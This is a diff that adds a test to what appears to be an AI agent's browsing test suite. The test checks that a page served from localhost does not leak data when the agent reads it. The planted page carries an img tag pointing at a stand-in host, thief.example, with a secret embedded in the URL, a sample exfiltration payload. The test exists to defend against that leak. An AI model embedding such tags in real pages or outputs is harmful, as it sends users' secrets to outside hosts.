@@ -509,6 +509,18 @@ async def test_a_page_of_its_own_sends_nothing_along(
     assert internet.at("news.example")[-1] == "news.example/plain"
 
 
+async def test_a_page_of_its_own_server_sends_nothing_along(
+    agent: ScriptedAgent, internet: Internet
+) -> None:
+    file = agent.workspace.parent / "manus.toml"
+    file.write_text(file.read_text().replace("[egress]", '[egress]\nallow_private = ["localhost"]'))
+    leak = f'<img src="http://thief.example/{SECRET}"><p>my page</p>'
+    internet.pages["localhost/leak"] = leak
+    await carried_out(agent, scripted([go("news.example/quiet"), go("localhost/leak")]), "Look.")
+    assert "my page" in str(agent.server.requests[2].messages)
+    assert internet.at("thief.example") == []
+
+
 async def test_a_server_that_the_user_chose_reaches_its_hosts(
     agent: ScriptedAgent, internet: Internet
 ) -> None:
